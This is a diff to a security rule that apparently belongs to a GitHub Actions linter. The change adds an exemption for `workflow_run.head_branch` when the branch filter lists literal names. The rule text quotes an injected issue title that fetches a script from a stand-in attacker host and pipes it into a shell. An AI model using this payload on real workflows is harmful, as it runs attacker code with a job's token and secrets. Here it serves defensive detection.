@@ -13,7 +13,9 @@ export const rule: GhaRule = {
       'GitHub replaces `${{ }}` expressions in `run:` (and in `actions/github-script`\'s `script:`) before the script ' +
       'runs, so the value becomes code. Issue and pull request titles and bodies, comments, review bodies, commit ' +
       'messages and author names, and head branch names are chosen by whoever opens the issue, the pull request or ' +
-      'the fork: a title such as `"; curl https://evil.example | sh #` runs on the runner with the job\'s token and secrets.',
+      'the fork: a title such as `"; curl https://evil.example | sh #` runs on the runner with the job\'s token and secrets. ' +
+      '`github.event.workflow_run.head_branch` is not counted when `on.workflow_run.branches` lists literal names only: ' +
+      'GitHub then starts the run for those branches alone, so the value is one the file writes.',
     severity: 'high',
     category: 'security',
     cwe: ['CWE-78', 'CWE-94'],
